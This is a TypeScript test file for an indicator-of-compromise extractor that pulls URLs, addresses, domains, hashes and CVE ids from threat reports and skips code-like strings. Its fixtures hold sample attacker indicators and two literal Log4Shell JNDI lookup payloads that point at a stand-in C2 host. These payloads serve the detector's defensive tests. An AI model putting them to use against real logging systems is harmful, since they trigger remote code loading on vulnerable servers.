import { describe, expect, it } from 'vitest';
import { extractIndicators } from './extract-indicators.js';

const values = (text: string, kind?: string) =>
  extractIndicators(text)
    .filter((fact) => kind === undefined || fact.kind === kind)
    .map((fact) => fact.value);

describe('extractIndicators', () => {
  it('finds every kind of indicator, each once', () => {
    const text = [
      'Beacon from 10.0.0.5 to 185.220.101.4 (and again 10.0.0.5) over fe80::1ff:fe23:4567:890a',
      'and 2001:0db8:85a3:0000:0000:8a2e:0370:7334; payload at https://evil.example.com/a/b.exe?x=1.',
      'Sender: attacker@phish-mail.ru, C2 domain update-check.xyz, CVE-2021-44228 (log4shell).',
      'MD5 44d88612fea8a8f36de82e1278abb02f SHA-1 3395856ce81f2b7382dee72602f798b642f14140',
      'SHA-256 275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f',
    ].join('\n');
    expect(extractIndicators(text)).toEqual([
      { kind: 'url', value: 'https://evil.example.com/a/b.exe?x=1' },
      { kind: 'email', value: 'attacker@phish-mail.ru' },
      { kind: 'ipv4', value: '10.0.0.5' },
      { kind: 'ipv4', value: '185.220.101.4' },
      { kind: 'ipv6', value: 'fe80::1ff:fe23:4567:890a' },
      { kind: 'ipv6', value: '2001:0db8:85a3:0000:0000:8a2e:0370:7334' },
      { kind: 'domain', value: 'update-check.xyz' },
      { kind: 'md5', value: '44d88612fea8a8f36de82e1278abb02f' },
      { kind: 'sha1', value: '3395856ce81f2b7382dee72602f798b642f14140' },
      { kind: 'sha256', value: '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f' },
      { kind: 'cve', value: 'CVE-2021-44228' },
    ]);
  });

  it('refangs defanged indicators', () => {
    expect(values('Blocked hxxps://bad[.]site/login and evil[.]com from 8.8.8[.]8')).toEqual([
      'https://bad.site/login',
      '8.8.8.8',
      'evil.com',
    ]);
  });

  it('does not take file names, code or versions for domains or addresses', () => {
    const code = [
      'python setup.py install; cat README.md; ./run.sh; vim src/lib.rs; ldd libc.so; cat MANIFEST.in',
      'if instance.pk is None: admin.site.register(Model); u.km; self.info(); out.info["x"]; np.ma.masked',
      'soup.td; Const.int; user.email; request.host; config.dev; version 2.20.0 and 1.2.3.4.5',
      'a[1::2]; 12:30:45; 00:1a:2b:3c:4d:5e; commit abc1234; uuid 123e4567-e89b-12d3-a456-426614174000',
      'sha of all digits 12345678901234567890123456789012',
    ].join('\n');
    expect(extractIndicators(code)).toEqual([]);
  });

  it('keeps real hosts that look like code only by their labels', () => {
    expect(
      values('Query vnevado-win11a.vnevado.alpineskihouse.co and login.microsoftonline.com', 'domain'),
    ).toEqual(['vnevado-win11a.vnevado.alpineskihouse.co', 'login.microsoftonline.com']);
    expect(values('A bare evil.py is a file; http://evil.py/x is a URL.')).toEqual(['http://evil.py/x']);
  });

  it('leaves out the addresses of attribution lines and version numbers that look like addresses', () => {
    const metadata = [
      '# Copyright (c) 2018 Nick Drozd <nicholasdrozd@gmail.com>',
      'Author: hippo91 <guillaume.peillex@gmail.com>',
      'Co-authored-by: Marc Mueller <30130371+cdce8p@users.noreply.github.com>',
      '3\t:Author: Simon Gibbons (simongibbons@gmail.com)',
      'using version - 2.0.0.0, and v1.2.3.4',
    ].join('\n');
    expect(extractIndicators(metadata)).toEqual([]);
    expect(values('Mail from alyssat@vnevado.alpineskihouse.co to 10.0.0.5 (authored the phish)')).toEqual([
      'alyssat@vnevado.alpineskihouse.co',
      '10.0.0.5',
    ]);
  });

  it('trims the punctuation that ends a sentence from a URL, keeping balanced brackets', () => {
    expect(values('See (https://en.wikipedia.org/wiki/Foo_(bar)), or https://example.com/path.')).toEqual([
      'https://en.wikipedia.org/wiki/Foo_(bar)',
      'https://example.com/path',
    ]);
  });

  it("takes a Log4Shell payload's JNDI lookup as a URL, its address only inside it", () => {
    expect(
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, literally
      extractIndicators('UA: ${jndi:ldap://167.99.36.212:1389/a} and ${jndi:rmi://c2.example.net/x}'),
    ).toEqual([
      { kind: 'url', value: 'ldap://167.99.36.212:1389/a' },
      { kind: 'url', value: 'rmi://c2.example.net/x' },
    ]);
  });
});
